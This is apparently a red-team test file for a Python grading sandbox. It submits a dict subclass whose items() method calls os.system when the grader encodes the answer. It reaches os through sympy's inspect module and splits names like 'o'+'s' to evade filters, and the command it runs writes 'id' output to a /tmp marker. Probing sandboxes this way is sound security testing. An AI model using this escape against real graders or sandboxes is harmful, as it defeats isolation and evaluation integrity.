"""effect: run-command
tries: a dict subclass bound to `a` whose items() calls os.system when the sandbox encodes the values.

The encoder calls methods of student objects after the answer's code has finished.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
def items(self):
    members(os_)["sys" + "tem"]("id > /tmp/lagrade-redteam/drop/pwned-encode_items_system")
    return dict.items(self)


Sneaky = type("Sneaky", (dict,), {"items": items})
a = Sneaky({"m1": Symbol("g")})
